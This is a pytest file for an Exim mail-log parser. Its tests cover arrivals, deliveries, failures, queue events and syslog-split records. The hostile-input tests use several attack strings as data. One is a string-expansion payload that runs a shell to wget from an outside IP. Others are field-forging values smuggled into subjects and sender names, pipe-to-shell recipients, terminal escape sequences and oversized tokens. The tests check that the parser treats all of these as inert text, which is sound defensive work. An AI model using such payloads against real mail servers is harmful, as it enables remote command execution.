"""Exim's log, read by its grammar file alone: real shapes, hostile words, fields in any order, the published cases."""

from __future__ import annotations

import dataclasses
import datetime as dt
import importlib.util
import json
import time
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from maillog_forensics import checking, intake, normalize, reading, rules
from tests.reading import told

SHARED = Path(__file__).parents[2] / "shared"
OLD, NEW = "1vwyP5-0001mi-2O", "10HmaX-000000005vi-0000"


@pytest.fixture(scope="module")
def plan() -> normalize.Plan:
    return reading.load()


def table(*texts: str) -> pl.DataFrame:
    """Lines as `sources` hands them on."""
    numbers = list(range(1, len(texts) + 1))
    return pl.DataFrame(
        {"line": numbers, "offset": [0] * len(texts), "text": texts},
        schema={"line": pl.UInt64, "offset": pl.UInt64, "text": pl.String},
    )


def states(plan: normalize.Plan, *texts: str) -> list[str]:
    return normalize.parse(table(*texts), plan).ledger.table()["state"].to_list()


def read(plan: normalize.Plan, message: str, stamp: str = "2026-03-02 08:13:23 ") -> dict[str, object]:
    """What the one line says: only what is known."""
    events = normalize.parse(table(stamp + message), plan).events()
    assert events.height == 1, message
    return told(events.to_dicts()[0])


# --- the grammar file itself


def test_every_sample_is_read_as_promised_and_by_one_rule_only() -> None:
    faults, samples = checking.check()
    assert [f for f in faults if f.startswith("exim.grammar")] == []
    assert samples > 60


USUAL = [
    f"{OLD} <= ann@a.example H=mx.a.example [192.0.2.7] P=esmtp S=554 id=1@a.example",
    f"{OLD} <= ann@a.example H=mx.a.example [192.0.2.7]:4711 P=esmtps X=TLS1.3:AES:256 CV=no K S=554 DKIM=a.example id=1@a.example",
    f"{NEW} <= ann@a.example H=mx.a.example (helo.a.example) [2001:db8::7] P=esmtps X=TLS1.3:AES:256 S=554 id=1@a.example",
    f'{OLD} => bob@b.example R=dnslookup T=remote_smtp H=mx.b.example [198.51.100.7] C="250 2.0.0 Ok: queued as 4F1C2A3B"',
    f'{NEW} => bob@b.example R=dnslookup T=remote_smtp H=mx.b.example [198.51.100.7]:25 X=TLS1.3:AES:256 C="250 OK id={NEW}" QT=2s',
    f'{NEW} => bob@b.example R=d T=t H=mx.b.example [2001:db8::7] X=T:A:2 CV=yes DN="/C=X/CN=mx.b.example" K C="250 ok" QT=1m2s DT=1s',
]


@pytest.mark.parametrize("line", USUAL)
def test_the_quick_pattern_of_a_usual_line_reads_what_the_general_one_reads(plan: normalize.Plan, line: str) -> None:
    row = pl.DataFrame({"line": pl.Series([1], dtype=pl.UInt64), "message": [line], "program": ["exim"]})
    quick, general = [], []
    for compiled in (c for c in plan.rules["exim"] if c.rule.programs):  # not the last resort, which reads nothing
        for pattern in compiled.patterns:
            taken, _ = rules.apply(row, dataclasses.replace(compiled, patterns=(pattern,)), "exim", plan)
            itself = {"client_host", "relay_host"} & set(pattern.types)
            (quick if itself else general).extend(told(table.to_dicts()[0]) for table in taken)
    assert len(quick) == 1 and general
    assert all(other == quick[0] for other in general)


def test_the_published_cases_are_right_in_995_of_1000_facts(plan: normalize.Plan, tmp_path: Path) -> None:
    """What is left is meant so: a login gets the domain of the address asked for, and a black hole is no delivery."""
    if not (SHARED / "cases" / "exim.jsonl").exists():
        pytest.skip("the cases are not here")
    spec = importlib.util.spec_from_file_location("cases", SHARED / "accept" / "cases.py")
    assert spec and spec.loader
    accept = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(accept)
    cases = [json.loads(line) for line in (SHARED / "cases" / "exim.jsonl").read_text("utf-8").splitlines()]
    log = tmp_path / "exim.log"
    log.write_text("".join(c["line"].replace("\n", "\\n") + "\n" for c in cases), encoding="utf-8")
    events, report = intake.take_in(str(log), plan, intake.Options(tz="UTC", year=2026)).whole()
    rows: dict[int, list[dict]] = {}
    for row in events.to_dicts():
        rows.setdefault(row["line"], []).append(row)
    asked = right = 0
    for number, case in enumerate(cases, 1):
        for column, want in accept.facts("exim", case["expect"]):
            asked += 1
            right += any(accept.same(column, row.get(column), want) for row in rows.get(number, []))
    assert report.unrecognised == 0
    assert asked > 2500 and right / asked >= 0.995


def test_real_logs_are_known_but_for_one_line_in_two_hundred(plan: normalize.Plan) -> None:
    """What stays unknown are the transcripts of toy servers that Exim's own test suite prints between the records."""
    folders = [SHARED / "logs" / "exim", SHARED / "logs" / "exim_testsuite" / "head"]
    if not all(folder.is_dir() for folder in folders):
        pytest.skip("the logs are not here")
    unknown = lines = 0
    for path in sorted(p for folder in folders for p in folder.iterdir()):
        _, report = intake.take_in(str(path), plan, intake.Options(tz="UTC")).whole()
        assert report.unrecognised <= 0.03 * report.about.lines, path.name
        assert report.parsed + report.ignored + report.unrecognised + report.damaged == report.about.lines
        unknown += report.unrecognised
        lines += report.about.lines
    assert unknown <= 0.005 * lines


# --- arrivals


def test_both_lengths_of_message_id_are_read(plan: normalize.Plan) -> None:
    for queue_id in (OLD, NEW):
        assert read(plan, f"{queue_id} Completed")["queue_id"] == queue_id


def test_the_null_sender_is_empty_and_a_bounce_names_its_parent(plan: normalize.Plan) -> None:
    row = read(plan, f"{OLD} <= <> R={NEW} U=Debian-exim P=local S=8656")
    assert row["sender"] == "" and row["parent_queue_id"] == NEW and row["user"] == "Debian-exim" and row["size"] == "8656"


def test_quoted_and_international_senders_are_kept_whole(plan: normalize.Plan) -> None:
    assert read(plan, f'{OLD} <= "saba bumu lisode"@test.example U=a P=local S=1')["sender"] == '"saba bumu lisode"@test.example'
    assert read(plan, f"{OLD} <= 他们@hebrew.למה.example H=x [192.0.2.1] P=utf8esmtp S=1")["sender"] == "他们@hebrew.למה.example"


def test_an_identity_with_a_blank_ends_at_the_protocol(plan: normalize.Plan) -> None:
    assert read(plan, f"{OLD} <= a@b.example U=spaced user P=local S=3")["user"] == "spaced user"


def test_recipients_are_counted_quoted_ones_once(plan: normalize.Plan) -> None:
    assert read(plan, f'{OLD} <= a@b.example P=local S=3 T="x" for c@d.example "e f"@g.example')["recipients"] == "2"


def test_the_authenticated_name_is_the_user_where_no_identity_is(plan: normalize.Plan) -> None:
    row = read(plan, f"{OLD} <= a@b.example H=(pc) [192.0.2.7] P=esmtpsa X=TLS1.3:x:256 CV=no A=plain:anna S=929")
    assert row["user"] == "anna"


_FIELDS = {
    "H=mx.example (helo.example) [192.0.2.10]:2525": {
        "client_host": "mx.example",
        "helo": "helo.example",
        "client_ip": "192.0.2.10",
    },
    "U=anna P=esmtpsa": {"user": "anna"},
    "S=8656": {"size": "8656"},
    f"R={NEW}": {"parent_queue_id": NEW},
    'DN="/C=UK/O=The H=evil [203.0.113.9] S=1 Maintainers"': {},
    "X=TLS1.3:TLS_AES_256_GCM_SHA384:256": {},
    "CV=no": {},
    "I=[198.51.100.25]:587": {},
    "K": {},
    "PRX=192.0.2.4": {},
    "Ci=p1234": {},
}


@settings(max_examples=60, deadline=None)
@given(fields=st.lists(st.sampled_from(sorted(_FIELDS)), unique=True), tail=st.booleans())
def test_fields_give_the_same_values_in_any_order(fields: list[str], tail: bool) -> None:
    wanted = {k: v for f in fields for k, v in _FIELDS[f].items()}
    if tail:
        wanted |= {"message_id": "m@x.example", "subject": "s H=evil [203.0.113.9]"}
    end = ' id=m@x.example T="s H=evil [203.0.113.9]" for b@x.example' if tail else ""
    row = read(_PLAN, " ".join([f"{OLD} <= a@b.example", *fields]) + end)
    columns = ("client_host", "helo", "client_ip", "user", "size", "parent_queue_id", "message_id", "subject")
    assert {k: row[k] for k in columns if k in row} == wanted


_PLAN = reading.load()


# --- deliveries


def test_a_login_gets_the_domain_of_the_address_that_was_asked_for(plan: normalize.Plan) -> None:
    row = read(plan, f"{OLD} => bob <info@beta.example> R=local_user T=maildir_home")
    assert (row["recipient"], row["orig_recipient"], row["transport"]) == (
        "bob@beta.example",
        "info@beta.example",
        "maildir_home",
    )


@pytest.mark.parametrize(
    ("final", "recipient"),
    [
        ('|/bin/sh -c "cat R=x : >box" <a@b.example>', '|/bin/sh -c "cat R=x : >box"'),
        ("/var/mail/mail <a@b.example>", "/var/mail/mail"),
        (">carla@d.example <a@b.example>", "carla@d.example"),
        ("save bfolder <a@b.example>", "save bfolder"),
        ('"x R=no T=no H=evil [203.0.113.9]"@c.example <a@b.example>', '"x R=no T=no H=evil [203.0.113.9]"@c.example'),
        ("c@d.example (e@f.example) <a@b.example>", "c@d.example"),
    ],
)
def test_pipes_files_and_answers_are_recipients(plan: normalize.Plan, final: str, recipient: str) -> None:
    row = read(plan, f"{OLD} => {final} F=<s@x.example> R=r1 T=t1")
    assert (row["recipient"], row["orig_recipient"], row["transport"]) == (recipient, "a@b.example", "t1")
    assert "relay_ip" not in row and row["sender"] == "s@x.example"


def test_the_next_hops_id_is_found_in_any_line_of_its_answer(plan: normalize.Plan) -> None:
    row = read(
        plan, f'{OLD} => a@b.example R=r T=t H=h [192.0.2.1]* L C="250- 3nn byte chunk\\n250 OK id={NEW}" QT=1d2h3m DT=0.123s'
    )
    assert row["next_queue_id"] == NEW and row["smtp_code"] == "250" and float(str(row["delay_s"])) == 93780.0


@pytest.mark.parametrize("flag", ["=>", "->", ">>"])
def test_every_flag_of_a_delivery_is_one(plan: normalize.Plan, flag: str) -> None:
    row = read(plan, f"{OLD} {flag} a@b.example R=r T=t H=h.example [192.0.2.1]")
    assert (row["event"], row["outcome"], row["relay_ip"]) == ("deliver", "delivered", "192.0.2.1")


# --- trouble


@pytest.mark.parametrize("colon", [":", " :"])
def test_the_colon_of_a_failure_may_have_a_blank_before_it(plan: normalize.Plan, colon: str) -> None:
    """Exim 4.99 writes it so, but not in all lines."""
    error = "SMTP error from remote mail server after RCPT TO:<a@b.example>: 550-5.1.1 no\\n550 5.1.1 such"
    row = read(plan, f"{OLD} ** a@b.example R=r T=t H=h.example [192.0.2.1]{colon} {error}")
    assert (row["recipient"], row["smtp_code"], row["dsn"], row["relay_host"]) == ("a@b.example", "550", "5.1.1", "h.example")


def test_a_recipient_that_is_code_is_kept_as_it_stands(plan: normalize.Plan) -> None:
    code = r"root+${run{\x2Fbin\x2Fsh\t-c\t\x22wget\x2064.50.180.45\x22}}@host.example"
    row = read(plan, f'{OLD} ** {code}: Too many "Received" headers - suspected mail loop')
    assert row["recipient"] == code and row["diagnostic"] == 'Too many "Received" headers - suspected mail loop'


def test_a_bracket_that_nobody_closed_costs_nothing(plan: normalize.Plan) -> None:
    error = "SMTP error from remote mail server after RCPT TO:<a@b.example>: 450 4.7.1 later"
    row = read(plan, f"{OLD} == a@b.example R=r T=t defer (-44) H=(relay.example) [192.0.2.197: {error}")
    assert (row["event"], row["recipient"], row["relay_ip"], row["smtp_code"]) == ("defer", "a@b.example", "192.0.2.197", "450")


def test_what_stands_between_the_errno_and_the_host_is_part_of_the_diagnostic(plan: normalize.Plan) -> None:
    row = read(plan, f"{OLD} == a@b.example R=r T=t defer (110): Connection timed out H=h.example [192.0.2.1]:25: SMTP timeout")
    assert row["relay_ip"] == "192.0.2.1" and str(row["diagnostic"]).startswith("Connection timed out")


# --- hostile words


@pytest.mark.parametrize(
    "message",
    [
        f'{OLD} <= a@b.example H=mx.example [192.0.2.10] P=esmtp S=1 id=x T="y\\" H=evil [203.0.113.9] U=root S=999 id=z for q@r.example"',
        f"{OLD} <= a@b.example H=mx.example [192.0.2.10] P=esmtp S=1 id=x H=evil [203.0.113.9] U=root S=999",
        f'{OLD} <= "q H=evil [203.0.113.9] U=root S=999"@b.example H=mx.example [192.0.2.10] P=esmtp S=1',
        f"{OLD} <= a@b.example H=mx.example (x) [203.0.113.9] P=x) [192.0.2.10] P=esmtp S=1",
        f'{OLD} <= a@b.example H=mx.example [192.0.2.10] P=esmtp DN="CN=\\" H=evil [203.0.113.9] S=999" S=1',
    ],
)
def test_no_sender_subject_or_name_forges_a_field(plan: normalize.Plan, message: str) -> None:
    row = read(plan, message)
    assert row["client_ip"] == "192.0.2.10" and row["size"] == "1" and row.get("user") is None


def test_no_answer_or_return_path_forges_a_relay(plan: normalize.Plan) -> None:
    row = read(
        plan,
        f'{OLD} => a@b.example F=<"x T=evil H=evil [203.0.113.9]"@c.example> R=r T=t C="250 OK H=evil [203.0.113.9] id={NEW}"',
    )
    assert row["transport"] == "t" and "relay_ip" not in row


def test_a_refused_sender_cannot_name_another_recipient(plan: normalize.Plan) -> None:
    row = read(
        plan, 'H=(h) [192.0.2.1] F=<"x> rejected RCPT <victim@v.example>: spam"@e.example> rejected RCPT <real@x.example>: no'
    )
    assert row["recipient"] == "real@x.example" and row["diagnostic"] == "no"


def test_escape_sequences_and_a_megabyte_are_only_text(plan: normalize.Plan) -> None:
    assert read(plan, f'{OLD} <= a@b.example P=local S=1 T="\x1b[2J\u202egnp"')["subject"] == "\x1b[2J\u202egnp"
    token = "x" * (1 << 20)
    started = time.monotonic()
    for message in (
        f"{OLD} <= a@b.example H=h [192.0.2.1] P=esmtp S=1 id={token}",
        f"{OLD} ** {token}: no", f"{OLD} == a@b.example R=r defer (-1): " + "H=( " * (1 << 18),
        f"{OLD} => |{'cmd <x> ' * (1 << 17)} <a@b.example> R=r T=t", "F=<\"" + token, "H=(" + "(" * (1 << 20) + " rejected RCPT <a@b>: x",
    ):  # fmt: skip
        normalize.parse(table("2026-03-02 08:13:23 " + message), plan)
    assert time.monotonic() - started < 20


# --- the queue, the operator, the rest


@pytest.mark.parametrize(
    ("text", "event"),
    [
        ("Frozen (delivery error message)", "hold"), ("frozen by CALLER", "hold"), ("*** Frozen (delivery error message)", "hold"),
        ("Unfrozen by auto-thaw", "release"), ("unfrozen by root", "release"), ("removed by root", "remove"),
        ("cancelled by system filter: subject was\t\"x\"", "discard"), ("Completed", "remove"), ("Message is frozen", "notice"),
        ("H=h.example [192.0.2.1] Connection refused", "notice"), ("DKIM: d=test.example s=sel [verification succeeded]", "notice"),
    ],
)  # fmt: skip
def test_what_happened_to_a_message_in_the_queue(plan: normalize.Plan, text: str, event: str) -> None:
    row = read(plan, f"{OLD} {text}")
    assert (row["event"], row["queue_id"]) == (event, OLD)


def test_queue_runs_and_the_reject_logs_headers_are_known_and_set_aside(plan: normalize.Plan) -> None:
    lines = ["2026-03-02 08:12:54 Start queue run: pid=6862 -qf", "P Received: from x by y", "\tid 1vwyP5-0001mi-2O", "F From: a@b.example",
             "Envelope-to: <c@d.example>", f"2026-03-02 08:12:54 Spool file for {OLD} is locked (another process is handling this message)"]  # fmt: skip
    assert states(plan, *lines) == ["ignored"] * len(lines)


def test_the_inner_stamp_of_a_syslog_line_is_the_time(plan: normalize.Plan) -> None:
    row = read(plan, f"2019-06-19 12:12:31 {OLD} Completed", stamp="Jul 20 01:02:03 mail exim4[14263]: ")
    assert (row["_wall"], row["host"], row["instance"], row["event"]) == (
        dt.datetime(2019, 6, 19, 12, 12, 31),
        "mail",
        "exim4",
        "remove",
    )
    assert read(plan, f"{OLD} Completed", stamp="Jul 20 01:02:03 mail exim[14263]: ")["_wall"] == dt.datetime(
        2000, 7, 20, 1, 2, 3
    )


def test_parts_that_syslog_cut_are_one_record(plan: normalize.Plan) -> None:
    """Exim's chapter on log files: `/` where the length made the cut, a backslash where a newline was."""
    head = "Jun 19 12:12:32 mail exim[14263]: "
    lines = [
        head + f"[1/2] 2019-06-19 12:12:32 {OLD} ** a@b.example: a very long te", "Jun 19 12:12:32 mail exim[99]: 2019-06-19 12:12:33 End queue run: pid=1",
        head + "[2/2] xt", head + f"[1\\3] 2019-06-19 12:12:32 {OLD} F=<a@b.example> rejected after DATA: spam", head + "[2\\3] Envelope-from: <a@b.example>",
        head + "[3\\3] F From: a@b.example",
    ]  # fmt: skip
    parsed = normalize.parse(table(*lines), plan)
    assert parsed.events()["diagnostic"].to_list() == ["a very long text", "after DATA: spam"]
    assert parsed.ledger.table()["state"].to_list() == ["parsed", "ignored", "ignored", "parsed", "ignored", "ignored"]
